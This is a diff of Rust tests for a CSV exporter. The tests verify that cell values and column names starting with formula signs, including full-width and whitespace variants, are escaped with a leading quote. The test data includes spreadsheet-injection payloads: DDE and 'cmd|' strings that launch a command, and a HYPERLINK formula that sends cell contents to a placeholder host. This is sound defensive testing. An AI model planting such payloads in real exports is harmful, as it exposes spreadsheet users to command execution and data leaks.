@@ -49,6 +49,54 @@ fn texts_that_spreadsheets_would_run_are_guarded() {
 }
 
 #[test]
+fn every_form_of_a_formula_is_guarded_and_nothing_else() {
+    let payloads =
+        ["cmd|' /C calc'!A0", "HYPERLINK(\"https://example.com?\"&A1,\"x\")", "1+1", "DDE(\"cmd\";\"/C calc\")"];
+    let signs = ["=", "+", "-", "@", "\t", "\r", "\n", "\t=", "\r\n=", "＝", "＋", "－", "＠", "--", "=-", "+-"];
+    let formulas = signs.iter().flat_map(|sign| payloads.map(|payload| format!("{sign}{payload}")));
+    // A sign before a sum of numbers computes nothing that was not written there, but a number with a sign is data.
+    let formulas: Vec<String> = formulas.filter(|text| text != "--1+1").collect();
+    let harmless =
+        ["+49 (30) 1234-5678", "-1", "-1.5", "+1", "-", "a=1", "1-2", "'=1", "ü", "", "me@example.com", "（=1）"];
+    let texts: Vec<String> = formulas.iter().cloned().chain(harmless.map(str::to_owned)).collect();
+    let users: Vec<_> = texts.iter().map(|text| json!({"email": "e", "type": 1, "first_name": text})).collect();
+    let printed = printed(&json!(users).to_string(), "--fields first_name").success();
+    // Every program that reads CSV, and no spreadsheet, finds the text behind a guard.
+    let rows = csv_rows(&printed);
+    assert_eq!(rows.len(), texts.len() + 1, "{printed}");
+    for (row, text) in rows.iter().skip(1).zip(&texts) {
+        let is_formula = formulas.contains(text);
+        assert_eq!(*row, if is_formula { format!("'{text}") } else { text.clone() });
+    }
+}
+
+/// The rows of CSV with one column.
+fn csv_rows(text: &str) -> Vec<String> {
+    let mut rows = vec![String::new()];
+    let (mut is_quoted, mut chars) = (false, text.chars().peekable());
+    while let Some(char) = chars.next() {
+        let row = rows.last_mut().unwrap();
+        match char {
+            '"' if is_quoted && chars.peek() == Some(&'"') => row.extend(chars.next()),
+            '"' => is_quoted = !is_quoted,
+            '\r' if !is_quoted => {
+                assert_eq!(chars.next(), Some('\n'));
+                rows.push(String::new());
+            }
+            other => row.push(other),
+        }
+    }
+    rows.truncate(rows.len() - 1);
+    rows
+}
+
+#[test]
+fn a_name_of_a_column_is_guarded_too() {
+    let run = printed(r#"[{"=HYPERLINK(1)":{"@b":1},"id":"a"}]"#, "");
+    assert_eq!(run.success(), "id,'=HYPERLINK(1).@b\r\na,1\r\n");
+}
+
+#[test]
 fn an_object_is_one_row_and_further_pages_are_reported() {
     let server = Server::always(Reply::json(200, &json!({"id": 1, "settings": {"audio": "voip", "empty": {}}})));
     let run = line("call meetings.get_meeting meeting_id=1 --output csv").at(&server).run();
